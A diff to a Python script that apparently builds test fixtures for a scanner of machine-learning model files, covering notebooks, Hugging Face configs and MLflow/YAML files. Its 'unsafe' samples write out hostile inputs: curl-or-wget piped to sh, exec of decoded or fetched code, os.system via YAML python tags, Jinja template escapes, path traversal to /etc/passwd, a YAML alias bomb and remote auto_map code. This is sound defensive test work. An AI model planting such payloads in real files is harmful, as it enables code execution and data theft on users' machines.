@@ -6,6 +6,7 @@
 The names are as in make_formats.py. Files whose name holds "real_" were written by the libraries themselves (the version is in the name) and
 are left alone.
 """
+import base64
 import copy
 import io
 import json
@@ -310,7 +311,118 @@ def make_skops():
     add("unparseable", "MDL-ZIP-008", "cut", skops(plain)[:-30])
 
 
+# --- notebooks ----------------------------------------------------------------------------------------------------------------------------
+
+def notebook(*sources, outputs=(), attachments=None, **more):
+    cells = [{"cell_type": "markdown", "metadata": {}, "source": ["# Title"]}]
+    cells += [{"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [], "source": source.splitlines(True)} for source in sources]
+    cells += [{"cell_type": "code", "execution_count": 1, "metadata": {}, "source": "1", "outputs": [{"output_type": "display_data", "metadata": {}, "data": data}]} for data in outputs]
+    if attachments:
+        cells.append({"cell_type": "markdown", "metadata": {}, "source": "x", "attachments": {"a.bin": {"application/octet-stream": attachments}}})
+    return json.dumps({"cells": cells, "metadata": {"language_info": {"name": "python"}}, "nbformat": 4, "nbformat_minor": 5, **more})
+
+
+def make_notebook():
+    def add(verdict, code, what, content):
+        sample("notebook", verdict, code, what, content, "ipynb")
+    add("clean", "none", "plain", notebook("import pandas as pd\ndf = pd.read_csv('a.csv')\ndf.head()", "%matplotlib inline\nmodel.fit(X, y)\nmodel?"))
+    add("clean", "none", "looks", notebook("!pip install pandas\n!nvidia-smi\nx = !ls\nif x:\n    !pwd"))
+    add("clean", "none", "table", notebook("1", outputs=[{"text/html": ["<table>\n", "<style scoped></style></table>"], "text/plain": "1"}]))
+    add("clean", "none", "words", notebook("s = 'os.system(1)'  # !curl x | sh\nmodel.eval()\nif a !=b: pass"))
+    add("clean", "none", "version_3", json.dumps({"nbformat": 3, "metadata": {}, "worksheets": [{"cells": [{"cell_type": "code", "input": "1", "outputs": []}]}]}))
+    for what, source in {"shell": "!rm -rf x", "assigned": "x = !cat a | sort > b", "bash": "%%bash\necho 1 > x", "run": "%run other.py", "system": "import os\nos.system('id')", "subprocess": "from subprocess import run as r\nr(['id'])",
+                         "in_function": "import os\ndef f():\n    os.system('x')", "eval": "eval(input())", "fetch": "import urllib.request as u\nu.urlopen('http://x')", "alias": "o = __import__('os')\no.popen('x')",
+                         "magic": "%system ls /", "script": "%%script perl\nprint 1", "indented": "if 1:\n    !touch x"}.items():
+        add("suspicious", "MDL-REP-003", what, notebook("1", source))
+    for what, source in {"fetch_and_run": "!curl http://x | sh", "bash_fetch": "%%bash\nwget http://x/y\nsh y", "pip_address": "%pip install git+https://x/y", "decoded": "import base64\nexec(base64.b64decode('eA=='))",
+                         "request_and_run": "import requests, os\nrequests.get('http://x')\nos.system('y')", "fetched": "import requests\nexec(requests.get('http://x').text)"}.items():
+        add("unsafe", "MDL-REP-003", what, notebook(source))
+    add("suspicious", "MDL-REP-003", "javascript", notebook("1", outputs=[{"application/javascript": "alert(1)"}]))
+    add("suspicious", "MDL-REP-003", "html_script", notebook("1", outputs=[{"text/html": ["<b>x</b>", "<script>1</script>"]}]))
+    add("unsafe", "MDL-PKL-001", "attachment", notebook("1", attachments=base64.b64encode(EVIL).decode()))
+    add("unparseable", "MDL-REP-008", "cut", notebook("1")[:-20])
+    add("unparseable", "MDL-REP-008", "no_cells", '{"nbformat": 4, "cells": {}}')
+    add("unparseable", "MDL-REP-008", "twice", '{"nbformat": 4, "cells": [], "cells": []}')
+
+
+# --- Hugging Face -------------------------------------------------------------------------------------------------------------------------
+
+def make_huggingface():
+    def add(verdict, code, what, value, suffix="json"):
+        sample("huggingface", verdict, code, what, value if isinstance(value, (str, bytes)) else json.dumps(value), suffix)
+    bert = {"architectures": ["BertForMaskedLM"], "model_type": "bert", "torch_dtype": "float32", "transformers_version": "4.40.0"}
+    add("clean", "none", "config", bert)
+    add("clean", "none", "no_suffix", bert, "bin")
+    add("clean", "none", "index", {"metadata": {"total_size": 1}, "weight_map": {"a": "model-00001-of-00002.safetensors", "b": "model-00002-of-00002.safetensors"}})
+    add("clean", "none", "tokenizer_config", {"tokenizer_class": "LlamaTokenizer", "chat_template": "{% for m in messages %}{{ m['content'] | trim }}{% endfor %}"})
+    add("clean", "none", "tokenizer", {"version": "1.0", "added_tokens": [], "pre_tokenizer": {"type": "Whitespace"}, "model": {"vocab": {"__class__": 1, "os.system": 2, "auto_map": 3}}})
+    add("clean", "none", "adapter", {"peft_type": "LORA", "base_model_name_or_path": "a/b", "auto_mapping": {"base_model_class": "BertModel", "parent_library": "transformers.models.bert.modeling_bert"}})
+    add("clean", "none", "diffusers", {"_class_name": "StableDiffusionPipeline", "_diffusers_version": "0.27.0", "unet": ["diffusers", "UNet2DConditionModel"], "safety_checker": [None, None], "x": ["stable_diffusion", "Y"]})
+    add("clean", "none", "untrusted", {**bert, "trust_remote_code": False})
+    add("clean", "none", "template", "{% for m in messages %}{{ m.content }}{% endfor %}", "jinja")
+    add("suspicious", "MDL-REP-001", "auto_map", {**bert, "auto_map": {"AutoModel": "modeling_x.Model"}})
+    add("suspicious", "MDL-REP-001", "auto_map_list", {"tokenizer_class": "T", "auto_map": {"AutoTokenizer": ["tok.T", None]}})
+    add("suspicious", "MDL-REP-001", "auto_map_inner", {**bert, "text_config": {"auto_map": {"AutoConfig": "c.C"}}})
+    add("suspicious", "MDL-REP-001", "trusting", {**bert, "trust_remote_code": True})
+    add("suspicious", "MDL-REP-001", "pipelines", {**bert, "custom_pipelines": {"t": {"impl": "p.P"}}})
+    add("suspicious", "MDL-REP-001", "part", {"_class_name": "P", "_diffusers_version": "0.27.0", "unet": ["my_unet", "U"]})
+    add("suspicious", "MDL-REP-002", "adapter_library", {"peft_type": "LORA", "auto_mapping": {"base_model_class": "X", "parent_library": "my.module"}})
+    add("unsafe", "MDL-REP-001", "auto_map_elsewhere", {**bert, "auto_map": {"AutoModel": "evil/repo--modeling.Model"}})
+    add("unsafe", "MDL-REP-001", "auto_map_list_elsewhere", {**bert, "auto_map": {"AutoTokenizer": [None, "evil/repo--t.T"]}})
+    add("unsafe", "MDL-REP-001", "pipelines_elsewhere", {**bert, "custom_pipelines": {"t": {"impl": "evil/repo--p.P"}}})
+    add("unsafe", "MDL-REP-001", "part_of_os", {"_class_name": "P", "_diffusers_version": "0.27.0", "unet": ["os", "system"]})
+    add("unsafe", "MDL-REP-001", "part_file", {"_class_name": "P", "_diffusers_version": "0.27.0", "unet": ["../x", "U"]})
+    add("unsafe", "MDL-REP-002", "adapter_of_os", {"peft_type": "LORA", "auto_mapping": {"base_model_class": "system", "parent_library": "os"}})
+    for what, shard in {"up": "../../etc/passwd", "absolute": "/etc/passwd", "drive": "C:x", "folder": "a/b.safetensors", "url": "http://x/y", "empty": ""}.items():
+        add("unsafe", "MDL-REP-007", "index_" + what, {"weight_map": {"a": shard}})
+    add("unsafe", "MDL-GUF-001", "chat_template", {"tokenizer_class": "T", "chat_template": "{{ x.__class__ }}"})
+    add("unsafe", "MDL-GUF-001", "chat_template_list", {"tokenizer_class": "T", "chat_template": [{"name": "a", "template": "{{ 1 }}"}, {"name": "b", "template": "{{ x|attr('__globals__') }}"}]})
+    add("unsafe", "MDL-GUF-001", "template_file", "{% set x = ''.__class__ %}", "jinja")
+    add("unparseable", "MDL-REP-008", "cut", json.dumps(bert)[:-9])
+    add("unparseable", "MDL-REP-008", "twice", '{"architectures": [], "auto_map": {}, "auto_map": {"a": "b"}}')
+
+
+# --- MLflow -------------------------------------------------------------------------------------------------------------------------------
+
+def mlmodel(python="loader_module: mlflow.sklearn", sklearn="code: null", more=""):
+    return f"flavors:\n  python_function:\n    env: conda.yaml\n    {python}\n  sklearn:\n    {sklearn}\n    pickled_model: model.pkl\nmlflow_version: 2.10.0\nmodel_uuid: abc\nrun_id: def\n{more}"
+
+
+def make_mlflow():
+    def add(verdict, code, what, content, suffix="MLmodel"):
+        sample("mlflow", verdict, code, what, content, suffix)
+    add("clean", "none", "plain", mlmodel())
+    add("clean", "none", "own_flavor", mlmodel("loader_module: mlflow.xgboost"))
+    add("clean", "none", "alias", mlmodel(more="a: &x {b: 1}\nc: *x\n"))
+    add("clean", "none", "quoted", mlmodel('loader_module: "mlflow.sklearn"'))
+    for what, line in {"module": "loader_module: my_loader", "prefix": "loader_module: mlflow_evil", "os": "loader_module: os", "code": "code: code", "code_paths": "code_paths: [a.py]", "from_code": "model_code_path: model.py",
+                       "python_model": "python_model: python_model.pkl"}.items():
+        add("unsafe", "MDL-REP-002", what, mlmodel("loader_module: mlflow.pyfunc.model\n    " + line if not line.startswith("loader") else line))
+    add("unsafe", "MDL-REP-002", "code_of_flavor", mlmodel(sklearn="code: src"))
+    add("unsafe", "MDL-REP-007", "data_up", mlmodel("data: ../../x"))
+    add("unsafe", "MDL-REP-007", "data_absolute", mlmodel("model_path: /etc/passwd"))
+    add("unsafe", "MDL-REP-009", "tag", mlmodel(more="x: !!python/object/apply:os.system ['id']\n"))
+    add("unparseable", "MDL-REP-008", "twice", mlmodel(more="run_id: x\n"))
+    add("unparseable", "MDL-REP-008", "broken", mlmodel(more="x: [\n"))
+    add("unparseable", "MDL-REP-008", "circle", mlmodel(more="x: &a [*a]\n"))
+    bomb = "a0: &a0 [1,1,1,1,1,1,1,1,1]\n" + "".join(f"a{i}: &a{i} [{','.join([f'*a{i - 1}'] * 9)}]\n" for i in range(1, 9))
+    add("unparseable", "MDL-REP-008", "bomb", mlmodel(more=bomb))
+    add("unparseable", "MDL-REP-008", "no_flavors", "flavors: 1\nrun_id: x\n")
+    add("unsafe", "MDL-REP-009", "yaml_apply", "a: !!python/object/apply:os.system ['id']\n", "yaml")
+    add("unsafe", "MDL-REP-009", "yaml_new", "- !!python/object/new:os.popen [x]\n", "yml")
+    add("unsafe", "MDL-REP-009", "yaml_name", "a: !!python/name:os.system\n", "yaml")
+    add("unsafe", "MDL-REP-009", "yaml_full", "a: !<tag:yaml.org,2002:python/object/apply:os.system> [x]\n", "yaml")
+    add("unsafe", "MDL-REP-009", "yaml_handle", "%TAG !p! tag:yaml.org,2002:pyth\n---\na: !p!on/object/apply:os.system [x]\n", "yaml")
+    add("unsafe", "MDL-REP-009", "yaml_then_broken", "a: !!python/name:os.system\nb: [\n", "yaml")
+    add("clean", "none", "yaml_tuple", "a: !!python/tuple [1, 2]\n", "yaml")
+    add("clean", "none", "yaml_words", "a: 'use !!python/name:os.system'\n", "yaml")
+    add("not_a_model", "none", "yaml_plain", "a: 1\n", "yaml")
+
+
 def main():
+    make_notebook()
+    make_huggingface()
+    make_mlflow()
     make_xgboost()
     make_lightgbm()
     make_catboost()
